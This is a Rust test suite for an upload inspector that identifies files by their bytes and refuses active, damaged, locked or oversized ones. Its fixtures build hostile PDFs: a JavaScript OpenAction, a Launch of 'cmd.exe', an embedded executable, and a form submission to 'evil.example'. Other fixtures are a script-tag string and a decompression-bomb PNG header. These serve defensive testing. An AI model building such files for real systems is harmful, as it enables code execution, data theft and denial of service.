//! What an uploaded file is, and whether it is fit (DOC-19): by its bytes, whatever it is called.

use std::io::Cursor;

use custodian::blobs::BlobError;
use custodian::documents::render::{Defect, Inspected, Kind, Studio, Unfit};
use lopdf::{Object, Stream, dictionary};

use super::{pdf, plain_pdf};

async fn inspect(content: Vec<u8>) -> Result<Inspected, Unfit> {
    Studio::shared().inspect(content.into()).await
}

fn picture(format: image::ImageFormat) -> Vec<u8> {
    let mut bytes = Cursor::new(Vec::new());
    image::DynamicImage::new_luma8(40, 30).write_to(&mut bytes, format).unwrap();
    bytes.into_inner()
}

#[tokio::test]
async fn the_kinds_of_the_record_come_in_by_their_bytes() {
    let table = [
        (plain_pdf(), Kind::Pdf, "application/pdf", Some(1)),
        (picture(image::ImageFormat::Png), Kind::Png, "image/png", Some(1)),
        (picture(image::ImageFormat::Jpeg), Kind::Jpeg, "image/jpeg", Some(1)),
        (picture(image::ImageFormat::Tiff), Kind::Tiff, "image/tiff", Some(1)),
        ("Größe: 1,80 m\r\n".as_bytes().to_vec(), Kind::PlainText, "text/plain", None),
        (b"<script>alert(1)</script>".to_vec(), Kind::PlainText, "text/plain", None),
    ];
    for (content, kind, content_type, pages) in table {
        let found = inspect(content).await.unwrap();
        assert_eq!((found.kind, found.content_type, found.pages), (kind, content_type, pages));
        assert_eq!(found.defects, [], "{kind:?}");
    }
    for content in [&b"MZ\x90\x00\x03"[..], b"PK\x03\x04\x14\x00", b"{\\rtf1 x}", b"\x7fELF\x02", b"GIF89a\x01\x00"] {
        assert_eq!(inspect(content.to_vec()).await, Err(Unfit::Kind), "{content:?}");
    }
    assert_eq!(inspect(Vec::new()).await, Err(Unfit::Empty));
}

#[tokio::test]
async fn a_pdf_that_would_do_something_is_refused() {
    let script =
        || dictionary! { "Type" => "Action", "S" => "JavaScript", "JS" => Object::string_literal("app.alert(1)") };
    let active = [
        pdf(|_, catalog| catalog.set("OpenAction", script())),
        pdf(|document, catalog| {
            let action = document.add_object(script());
            let names = dictionary! { "Names" => vec![Object::string_literal("a"), action.into()] };
            catalog.set("Names", dictionary! { "JavaScript" => names });
        }),
        pdf(|_, catalog| {
            catalog.set("OpenAction", dictionary! { "S" => "Launch", "F" => Object::string_literal("cmd.exe") });
        }),
        pdf(|_, catalog| catalog.set("AcroForm", dictionary! { "XFA" => Object::string_literal("<xdp/>") })),
        pdf(|document, catalog| {
            let file = document.add_object(Stream::new(dictionary! { "Type" => "EmbeddedFile" }, b"MZ".to_vec()));
            let spec = dictionary! { "Type" => "Filespec", "EF" => dictionary! { "F" => file } };
            let names = dictionary! { "Names" => vec![Object::string_literal("a"), spec.into()] };
            catalog.set("Names", dictionary! { "EmbeddedFiles" => names });
        }),
        pdf(|document, catalog| {
            let action = dictionary! { "S" => "SubmitForm", "F" => Object::string_literal("https://evil.example") };
            let field = document.add_object(dictionary! { "A" => action });
            catalog.set("AcroForm", dictionary! { "Fields" => vec![field.into()] });
        }),
    ];
    for (at, content) in active.into_iter().enumerate() {
        assert!(matches!(inspect(content).await, Err(Unfit::Active(_))), "{at}");
    }
}

#[tokio::test]
async fn damage_is_refused_or_marked_with_its_reason() {
    let whole = plain_pdf();
    // cut in the middle: no reader may guess the rest
    let half = inspect(whole[..whole.len() / 2].to_vec()).await;
    assert!(
        matches!(&half, Err(Unfit::Damaged))
            || half.as_ref().is_ok_and(|found| found.defects.contains(&Defect::Damaged)),
        "{half:?}"
    );
    // only the end is missing: kept, and not includable in a release
    let end = whole.windows(9).rposition(|window| window == b"startxref").unwrap();
    let cut = inspect(whole[..end].to_vec()).await.unwrap();
    assert!(cut.defects.contains(&Defect::Damaged), "{cut:?}");
    // a page tree that counts wrong
    let lying = pdf(|document, catalog| {
        let pages = catalog.get(b"Pages").unwrap().as_reference().unwrap();
        document.get_object_mut(pages).unwrap().as_dict_mut().unwrap().set("Count", 5);
    });
    assert!(inspect(lying).await.is_ok_and(|found| found.defects.contains(&Defect::Damaged)));
    // a typeface that is nowhere
    let fontless = pdf(|document, _| {
        let font = document
            .objects
            .iter()
            .find(|(_, object)| object.as_dict().is_ok_and(|dictionary| dictionary.get(b"BaseFont").is_ok()));
        let id = *font.unwrap().0;
        document.objects.remove(&id);
    });
    let fontless = inspect(fontless).await.unwrap();
    assert_eq!(fontless.defects, [Defect::MissingFont(1)]);
    assert_eq!(inspect(b"%PDF-1.7\nnothing".to_vec()).await, Err(Unfit::Damaged));
    let mut broken = picture(image::ImageFormat::Png);
    broken.truncate(broken.len() / 2);
    assert_eq!(inspect(broken).await, Err(Unfit::Damaged));
}

#[tokio::test]
async fn a_locked_pdf_is_refused_with_the_reason() {
    let mut document = lopdf::Document::load_mem(&plain_pdf()).unwrap();
    let id = Object::string_literal("0123456789abcdef");
    document.trailer.set("ID", vec![id.clone(), id]);
    let version = lopdf::EncryptionVersion::V2 {
        document: &document,
        owner_password: "owner",
        user_password: "secret",
        key_length: 128,
        permissions: lopdf::Permissions::all(),
    };
    let state = lopdf::EncryptionState::try_from(version).unwrap();
    document.encrypt(&state).unwrap();
    let mut locked = Vec::new();
    document.save_to(&mut locked).unwrap();
    assert_eq!(inspect(locked).await, Err(Unfit::Locked));
}

#[tokio::test]
async fn a_picture_beyond_what_can_be_shown_is_refused() {
    // 20,000 by 20,000 pixels in a few bytes: the header alone decides
    let mut bytes = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    bytes.extend(20_000_u32.to_be_bytes());
    bytes.extend(20_000_u32.to_be_bytes());
    bytes.extend([8, 0, 0, 0, 0]);
    let checksum = {
        let mut sum = flate2::Crc::new();
        sum.update(&bytes[12..]);
        sum.sum()
    };
    bytes.extend(checksum.to_be_bytes());
    bytes.extend(b"\0\0\0\0IDAT\x35\xaf\x06\x1e\0\0\0\0IEND\xae\x42\x60\x82");
    assert_eq!(inspect(bytes).await, Err(Unfit::TooLarge));
}

/// Two pages; the second's strip lies outside the file.
fn tiff_with_a_bad_page() -> Vec<u8> {
    let entries = |strip: u32| {
        let short = |tag: u16, value: u16| {
            [
                tag.to_le_bytes().to_vec(),
                3_u16.to_le_bytes().to_vec(),
                1_u32.to_le_bytes().to_vec(),
                u32::from(value).to_le_bytes().to_vec(),
            ]
            .concat()
        };
        let long = |tag: u16, value: u32| {
            [
                tag.to_le_bytes().to_vec(),
                4_u16.to_le_bytes().to_vec(),
                1_u32.to_le_bytes().to_vec(),
                value.to_le_bytes().to_vec(),
            ]
            .concat()
        };
        [
            9_u16.to_le_bytes().to_vec(),
            short(256, 4),
            short(257, 4),
            short(258, 8),
            short(259, 1),
            short(262, 1),
            long(273, strip),
            short(277, 1),
            short(278, 4),
            long(279, 16),
        ]
        .concat()
    };
    let directory = 2 + 9 * 12 + 4;
    let first = 8 + 16;
    let second = first + directory;
    let mut bytes = b"II\x2a\0".to_vec();
    bytes.extend((first as u32).to_le_bytes());
    bytes.extend([200_u8; 16]);
    bytes.extend(entries(8));
    bytes.extend((second as u32).to_le_bytes());
    bytes.extend(entries(9_999_999));
    bytes.extend(0_u32.to_le_bytes());
    bytes
}

#[tokio::test]
async fn a_tiff_with_a_bad_page_is_kept_and_marked() {
    let found = inspect(tiff_with_a_bad_page()).await.unwrap();
    assert_eq!((found.pages, found.defects), (Some(2), vec![Defect::BadPage(2)]));
    assert_eq!(Defect::words("bad-page:2"), "Page 2 cannot be drawn");
}

#[tokio::test]
async fn the_words_of_a_pdf_are_read() {
    let words = custodian::documents::filing::words(Kind::Pdf, plain_pdf().into()).await.unwrap();
    assert!(words.contains("Consultation about asthma"), "{words}");
    assert_eq!(custodian::documents::filing::words(Kind::Png, picture(image::ImageFormat::Png).into()).await, None);
}

#[test]
fn a_full_disk_says_that_nothing_was_filed() {
    let error = custodian::access::Error::from(BlobError::Full);
    assert!(
        matches!(error, custodian::access::Error::Invalid(ref words) if words.contains("nothing was filed")),
        "{error}"
    );
}
